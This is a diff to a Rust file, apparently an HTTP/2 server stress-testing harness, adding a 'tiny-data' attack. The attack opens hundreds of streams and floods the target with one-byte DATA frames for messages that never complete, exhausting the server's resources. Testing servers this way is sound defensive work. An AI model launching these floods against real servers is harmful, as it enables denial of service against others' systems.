@@ -44,6 +44,7 @@ pub const ATTACKS: &[Attack] = &[
         Box::pin(repeated(target, frame(2, 0, 1, &[0, 0, 0, 3, 9]), true))
     }),
     ("g-empty-data-flood", |target| Box::pin(empty_data(target))),
+    ("g-tiny-data", |target| Box::pin(tiny_data(target))),
     ("g-window-updates", |target| {
         Box::pin(repeated(target, frame(8, 0, 0, &[0, 0, 0, 1]), true))
     }),
@@ -158,6 +159,23 @@ async fn empty_data(target: Arc<Target>) -> Outcome {
     let first = frame(1, END_HEADERS, 1, &header_block(wire::GET));
     let many = frame(0, 0, 1, &[]).repeat(1_000);
     flood(&target, true, first, || Some(many.clone())).await
+}
+
+/// Many incomplete messages, each byte in a frame of its own.
+async fn tiny_data(target: Arc<Target>) -> Outcome {
+    const STREAMS: u32 = 400;
+    const BYTES: usize = 500;
+    let streams = (0..STREAMS).map(|number| 1 + 2 * number);
+    let block = header_block(wire::GET);
+    // The messages have a megabyte each, so none becomes complete.
+    let begin = |stream| {
+        let headers = frame(1, END_HEADERS, stream, &block);
+        [headers, frame(0, 0, stream, &[0, 0, 15, 0, 0])].concat()
+    };
+    let first = streams.clone().flat_map(begin).collect();
+    let mut rounds = (0..16_000 / BYTES).flat_map(|_| streams.clone());
+    let next = || Some(frame(0, 0, rounds.next()?, &[7]).repeat(BYTES));
+    flood(&target, true, first, next).await
 }
 
 /// Requests with headers above the limit.
